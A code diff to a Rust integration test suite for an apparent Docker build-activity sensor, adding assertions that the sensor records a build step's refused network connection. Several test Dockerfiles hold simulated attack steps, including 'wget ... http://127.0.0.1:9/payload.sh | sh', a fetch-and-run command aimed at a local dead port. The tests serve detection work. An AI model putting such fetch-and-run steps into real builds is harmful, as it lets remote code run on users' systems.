@@ -182,9 +182,8 @@ fn remote_tcp_build_is_critical(world: &World) {
     let nonce = &env.nonce;
     // The daemon must fetch the base image itself while building.
     run_command(env.docker().args(["image", "rm", "--force", BASE_IMAGE]));
-    let command = format!(
-        "echo remote-{nonce} > /marker && (wget -q -T 1 -O /dev/null http://127.0.0.1:9/payload || true)"
-    );
+    let command =
+        format!("echo remote-{nonce} > /marker && (wget -q -O /dev/null http://127.0.0.1:9/payload || true)");
     let context = env.context("det-remote", &format!("FROM {BASE_IMAGE}\nRUN {command}\n"));
     let tag = format!("bwdet/remote:{nonce}");
     let full_tag = format!("docker.io/bwdet/remote:{nonce}");
@@ -265,6 +264,27 @@ fn remote_tcp_build_is_critical(world: &World) {
             .collect(),
     );
     assert!(egress.iter().any(|e| e.contains("wget")), "egress: {egress:?}");
+    // The step's own connection attempt, seen by the kernel (refused: the build has no network).
+    let connections: Vec<&Value> = summary["egress"]
+        .as_array()
+        .into_iter()
+        .flatten()
+        .filter(|e| e["kind"] == "step_connection")
+        .collect();
+    assert!(
+        connections
+            .iter()
+            .any(|e| e["destination"] == "127.0.0.1:9"
+                && e["detail"] == "wget connected to 127.0.0.1:9 (refused)"),
+        "step connections: {connections:?}"
+    );
+    let connect = world
+        .sensor
+        .wait_for(mark, TIMEOUT, "the step's socket.connect", |e| {
+            kind(e) == "socket.connect" && role(e) == "build_step"
+        });
+    assert_eq!(connect["socket"]["result"], -111, "{connect}");
+    assert_eq!(connect["process"]["comm"], "wget");
     assert_eq!(summary["severity"], "critical");
 }
 
@@ -688,8 +708,8 @@ fn replay_equals_live(world: &World) {
 
 /// Records a few actions with a sensor of their own (only the test daemon's socket and port, so
 /// the file stays small: the kind shipped in sensor/testdata/recordings), then checks the replay
-/// gives the live run's detections, which must include `rules`.
-fn record(world: &World, file: &str, rules: &[&str], actions: impl FnOnce(&Environment)) {
+/// gives the live run's detections, which must include `rules`. Returns every line it wrote.
+fn record(world: &World, file: &str, rules: &[&str], actions: impl FnOnce(&Environment)) -> Vec<Value> {
     let env = &world.env;
     let path = recordings_dir().join(file);
     let config = TempConfig::new(
@@ -726,6 +746,7 @@ fn record(world: &World, file: &str, rules: &[&str], actions: impl FnOnce(&Envir
         );
     }
     assert_eq!(replay(&world.binary, &path, false), live);
+    recorder.all(0, |_| true)
 }
 
 fn small_recording_of_a_remote_attack(world: &World) {
@@ -736,10 +757,10 @@ fn small_recording_of_a_remote_attack(world: &World) {
         "build_egress",
         "run_of_unpulled_image",
     ];
-    record(world, "remote-build-and-privileged-run.jsonl", &rules, |env| {
+    let lines = record(world, "remote-build-and-privileged-run.jsonl", &rules, |env| {
         let context = env.context(
             "recorded",
-            &format!("FROM {BASE_IMAGE}\nRUN wget -q -T 1 -O - http://127.0.0.1:9/payload.sh | sh || true\n"),
+            &format!("FROM {BASE_IMAGE}\nRUN wget -q -O - http://127.0.0.1:9/payload.sh | sh || true\n"),
         );
         let tag = format!("bwdet/recorded:{nonce}");
         run_command(env.remote_docker().args(["build", "-t", &tag]).arg(&context));
@@ -753,6 +774,20 @@ fn small_recording_of_a_remote_attack(world: &World) {
         ]));
         run_command(env.docker().args(["rm", id.trim()]));
     });
+    // containerd was started by dockerd before this sensor: its shims' build steps are still
+    // followed (seeded descendants).
+    let connected = lines.iter().any(|l| {
+        kind(l) == "build"
+            && l["build"]["egress"]
+                .as_array()
+                .into_iter()
+                .flatten()
+                .any(|e| e["kind"] == "step_connection" && e["destination"] == "127.0.0.1:9")
+    });
+    assert!(
+        connected,
+        "the step's connection is missing from the recorded build"
+    );
 }
 
 fn small_recording_of_local_builds(world: &World) {
